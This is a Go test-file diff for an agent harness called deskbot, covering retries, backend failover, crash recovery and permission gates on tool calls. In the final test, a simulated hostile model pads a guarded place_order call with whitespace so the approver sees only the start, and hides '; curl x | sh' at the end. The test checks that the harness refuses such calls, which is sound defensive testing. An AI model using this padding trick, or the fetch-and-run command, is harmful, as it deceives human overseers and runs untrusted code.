@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"github.com/deskbot/deskbot"
+	"github.com/deskbot/deskbot/deskbottest"
 	"github.com/deskbot/deskbot/model"
 	"github.com/deskbot/deskbot/model/modeltest"
 	"github.com/deskbot/deskbot/store/storetest"
@@ -163,7 +164,7 @@ func TestEveryModelDownIsReportedOnceAndRetried(t *testing.T) {
 	w.tell(t, "two")
 
 	w.waitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
-	waitFor(t, "a few retries", func() bool { return len(w.primary.Requests()) >= 4 })
+	deskbottest.Eventually(t, "a few retries", func() bool { return len(w.primary.Requests()) >= 4 })
 	if n := w.count(t, deskbot.EventModelUnreachable); n != 1 {
 		t.Errorf("%d model_unreachable events, want 1", n)
 	}
@@ -189,7 +190,7 @@ func TestRestartLosesNoTriggerAndRepeatsNoCall(t *testing.T) {
 	w.tell(t, "one")
 	w.tell(t, "two")
 	w.tell(t, "three")
-	waitFor(t, "the hanging request", func() bool { return len(w.primary.Requests()) == 2 })
+	deskbottest.Eventually(t, "the hanging request", func() bool { return len(w.primary.Requests()) == 2 })
 	stop()
 
 	// The restarted process is handed "one" again, with the call it made.
@@ -223,8 +224,10 @@ func TestPausedDeskStartsNothing(t *testing.T) {
 	w.start(t, w.store)
 	w.tell(t, "Anything?")
 
-	// Long enough for many polls (20ms each) of an unpaused desk.
-	time.Sleep(200 * time.Millisecond)
+	// An unpaused desk would have called its model before looking at its
+	// switch twice more after the trigger came.
+	after := w.statusReads.Load()
+	deskbottest.Eventually(t, "the desk to look at its pause switch twice more", func() bool { return w.statusReads.Load() >= after+2 })
 	if n := len(w.primary.Requests()); n != 0 {
 		t.Fatalf("a paused desk called its model %d times", n)
 	}
@@ -316,7 +319,7 @@ func TestHistoryStaysBounded(t *testing.T) {
 		w.tell(t, "message "+strconv.Itoa(i))
 	}
 	w.waitSettled(t, deskbot.DeskIdle)
-	waitFor(t, "25 turns", func() bool { return len(w.primary.Requests()) == 25 })
+	deskbottest.Eventually(t, "25 turns", func() bool { return len(w.primary.Requests()) == 25 })
 	ms := w.primary.LastRequest().Messages()
 	var roles []string
 	for _, m := range ms {
@@ -381,4 +384,104 @@ func TestDeskWaitsWhileAnyRequestIsOpen(t *testing.T) {
 	}
 	w.waitMessage(t, "Denied, fine.")
 	w.waitSettled(t, deskbot.DeskIdle)
+}
+
+// A turn restarted after a crash learns that a call of it was held from
+// the remembered result's Held field, not from the words: the gate's words
+// may change, and a desk's command can print them.
+func TestRestartedTurnKnowsHeldCallByField(t *testing.T) {
+	tests := []struct {
+		name   string
+		result deskbot.ToolResult
+		state  deskbot.DeskState
+		note   string
+	}{
+		{"held, other words", deskbot.ToolResult{Text: "Any wording the gate may choose one day.", Held: true}, deskbot.DeskWaiting, "held for the user's permission"},
+		{"ran, printing the gate's words", deskbot.ToolResult{Text: "get_quote needs the user's permission, so it was not run."}, deskbot.DeskIdle, "-> get_quote needs"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := newDeskWorld(t)
+			ctx := t.Context()
+			prior := deskbot.CompletedCall{Call: deskbot.ToolCall{ID: "c1", Name: "get_quote", Arguments: []byte(`{"symbol":"TCS"}`)}, Result: tt.result}
+			if err := w.store.RememberCall(ctx, "trig-held", prior); err != nil {
+				t.Fatal(err)
+			}
+			w.primary.Push(modeltest.Text("Turn over."))
+			if err := w.store.Enqueue(ctx, deskbot.Trigger{ID: "trig-held", Desk: "main", Kind: deskbot.TriggerMessage, Text: "Quote TCS.", From: "Asha", CreatedAt: w.now}); err != nil {
+				t.Fatal(err)
+			}
+			w.start(t, w.store)
+			w.waitMessage(t, "Turn over.")
+			w.waitSettled(t, tt.state)
+			hist, err := w.store.History(ctx, "main", 10)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(hist) != 2 || !strings.Contains(hist[1].Content, tt.note) {
+				t.Errorf("history = %+v, want the call noted with %q", hist, tt.note)
+			}
+		})
+	}
+}
+
+// A model that answers with thousands of tool calls, or never stops
+// talking, is a broken backend: none of its calls runs, the next backend
+// takes over, and when every backend is broken the chat is told once.
+func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
+	w := newDeskWorld(t)
+	calls := make([]modeltest.ToolCall, 10000)
+	for i := range calls {
+		calls[i] = quote(`{"symbol":"S` + strconv.Itoa(i) + `"}`)
+	}
+	w.primary.Push(modeltest.Calls(calls...))
+	w.backup.Push(modeltest.Text("Backup here."))
+	w.start(t, w.store)
+	w.tell(t, "Quote everything.")
+	w.waitMessage(t, "Backup here.")
+	if got := w.quotes.runs(); got != 0 {
+		t.Errorf("calls of an oversized reply ran %d times", got)
+	}
+
+	w.primary.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Calls(calls...) })
+	w.backup.SetHandler(func(modeltest.Request) modeltest.Reply { return modeltest.Reply{Flood: 50 << 20} })
+	w.tell(t, "Again.")
+	down := w.waitEvent(t, "model_unreachable", func(e deskbot.Event) bool { return e.Kind == deskbot.EventModelUnreachable })
+	if !strings.Contains(down.Text, "more tool calls than the 32 allowed") || !strings.Contains(down.Text, "larger than") {
+		t.Errorf("outage told as %q, want both reasons", down.Text)
+	}
+	// Two more rounds of both backends failing are not told again.
+	n := len(w.backup.Requests())
+	deskbottest.Eventually(t, "two more rounds", func() bool { return len(w.backup.Requests()) >= n+2 })
+	if got := w.count(t, deskbot.EventModelUnreachable); got != 1 {
+		t.Errorf("%d model_unreachable events, want 1", got)
+	}
+	if got := w.quotes.runs(); got != 0 {
+		t.Errorf("calls of an oversized reply ran %d times", got)
+	}
+}
+
+// A hostile desk pads a guarded call so that an approver would be shown its
+// start only: it never becomes a request, and the model is told why.
+func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
+	w := newDeskWorld(t)
+	args := `{"symbol":"SBIN","side":"buy","quantity":1,"price":600,"note":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
+	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: args}), modeltest.Text("Understood."))
+	w.start(t, w.store)
+	w.tell(t, "Buy 1 SBIN.")
+	w.waitMessage(t, "Understood.")
+	w.waitSettled(t, deskbot.DeskIdle)
+
+	if n := w.count(t, deskbot.EventUserRequest); n != 0 {
+		t.Errorf("%d permission requests, want none", n)
+	}
+	res := w.primary.LastRequest().ToolResults()
+	n := len([]rune(deskbot.ShownArguments([]byte(args))))
+	// The OpenAI-compatible API has no error flag: results say "Error:".
+	if len(res) != 1 || res[0].Text != "Error: "+deskbot.TooLongToShowMessage("place_order", n) {
+		t.Errorf("model told %+v, want the too-long message", res)
+	}
+	if open, _ := w.store.OpenRequests(t.Context()); len(open) != 0 {
+		t.Errorf("open requests = %d, want none", len(open))
+	}
 }
